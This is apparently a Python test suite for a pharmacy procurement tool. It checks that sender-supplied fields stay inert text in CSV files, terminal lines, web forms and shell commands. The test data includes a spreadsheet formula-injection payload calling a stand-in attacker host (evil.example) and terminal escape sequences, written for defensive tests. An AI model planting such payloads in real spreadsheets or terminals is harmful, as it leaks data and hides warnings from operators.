"""What a request's sender wrote reaches the clerk as text, never as something that acts: a
product name the clerk's spreadsheet would take for a formula, control characters a terminal
would act on, a page form's id that could take the centre's message id, a number too long
to read; and any site or gateway name comes back as it was from the watch's files and from
the command its line gives."""

from __future__ import annotations

import csv
import json
import shlex
import uuid
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from edge.cli.main import _parser
from edge.cli.procurement.request_csv import RequestCsv, written_requests
from edge.cli.procurement.request_lines import answer_command, repeat_note, request_line
from edge.web.commands import is_form_id
from edge.web.views.expiring import DEFAULT_DAYS, days_asked
from sync.procurement_feed import SeenRequests, parse_request, read_seen

TOPIC = "rxedge/v1/s1/g1/procurement/request"


def request(**fields: object) -> bytes:
    body = {
        "request_id": str(uuid.uuid4()),
        "created_at": "2026-12-06T09:00:00.000Z",
        "site": "s1",
        "gateway": "g1",
        "gtin": "04012345123456",
        "name": "Amoxicillin 500 mg",
        "batch_hint": "",
        "quantity": 6,
        "unit": "pack",
        "priority": "routine",
        "reason": {"on_hand": 1, "on_order": 0, "reorder_point": 2, "par": 7},
        "confirmed_by": "auto",
        **fields,
    }
    return json.dumps(body).encode()


def test_a_product_name_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Aspirin")'
    sheet = RequestCsv(tmp_path / "requests.csv")
    sheet.write(parse_request(TOPIC, request(name=formula, confirmed_by="@SUM(1+1)")), "now")
    sheet.close()
    with (tmp_path / "requests.csv").open(newline="", encoding="utf-8") as held:
        (row,) = list(csv.DictReader(held))
    assert row["name"] == "'" + formula and row["confirmed_by"] == "'@SUM(1+1)"
    assert row["unit"] == "pack" and row["quantity"] == "6"


def test_control_characters_cannot_hide_the_repeat_warning_on_a_terminal() -> None:
    line = request_line(parse_request(TOPIC, request(unit="pack\r\x1b[2K", sent_again=3)))
    assert line.startswith("sent again (3): the gateway has no answer yet")
    assert "\r" not in line and "\x1b" not in line and "\\r\\x1b[2K" in line


def test_a_repeat_sent_as_2_0_is_still_a_repeat() -> None:
    assert repeat_note(parse_request(TOPIC, request(sent_again=2.0))) is not None


def test_a_form_id_is_only_one_the_page_draws() -> None:
    assert is_form_id(str(uuid.uuid4()))
    for chosen in ("msg-0418", "x", str(uuid.uuid4()).upper(), "", "6f1c2a9e"):
        assert not is_form_id(chosen), chosen


def test_a_number_of_thousands_of_digits_in_a_page_query_is_refused_in_words() -> None:
    days, problem = days_asked("9" * 5000)
    assert days == DEFAULT_DAYS and "not a whole number" in problem


NAMES = st.text(st.characters(exclude_characters="/+#\x00", exclude_categories=("Cs",)), min_size=1)


@settings(max_examples=100, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(site=NAMES, gateway=NAMES)
def test_any_site_and_gateway_come_back_from_the_watchs_files_and_its_answer_command(
    tmp_path: Path, site: str, gateway: str
) -> None:
    """Any name the contract allows a topic's level (but NUL, which MQTT forbids): a dash or a
    quote first, spaces at its ends, line and paragraph separators, `%`."""
    got = parse_request(
        f"rxedge/v1/{site}/{gateway}/procurement/request", request(site=site, gateway=gateway)
    )
    sheet_path, seen_path = tmp_path / "requests.csv", tmp_path / "seen.txt"
    for path in (sheet_path, seen_path):
        path.unlink(missing_ok=True)
    sheet = RequestCsv(sheet_path)
    sheet.write(got, "now")
    sheet.close()
    seen = SeenRequests(seen_path)
    seen.add(got.key)
    seen.close()
    assert written_requests(sheet_path) == read_seen(seen_path) == [got.key]
    words = shlex.split(answer_command(got).replace(" STATE ", " ordered ", 1))
    args = _parser().parse_args(words[1:])  # as a POSIX shell hands them to `rxedge`
    assert (args.request_id, args.site, args.gateway) == (got.request_id, site, gateway)
